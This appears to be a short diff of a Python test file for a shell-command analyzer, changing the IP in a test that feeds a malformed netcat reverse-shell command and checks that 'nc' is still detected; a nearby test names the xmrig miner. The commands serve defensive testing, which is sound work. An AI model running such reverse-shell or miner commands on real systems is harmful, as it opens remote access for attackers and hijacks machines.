@@ -40,7 +40,7 @@ def test_nul_bytes() -> None:
 
 
 def test_unterminated_quotes_fall_back() -> None:
-    a = analyze_command('bash -c "nc -e /bin/sh 1.2.3.4 4444')
+    a = analyze_command('bash -c "nc -e /bin/sh 203.0.113.5 4444')
     assert a.parse_error
     assert "nc" in a.names
     a = analyze_command("xmrig -o 'pool:3333")
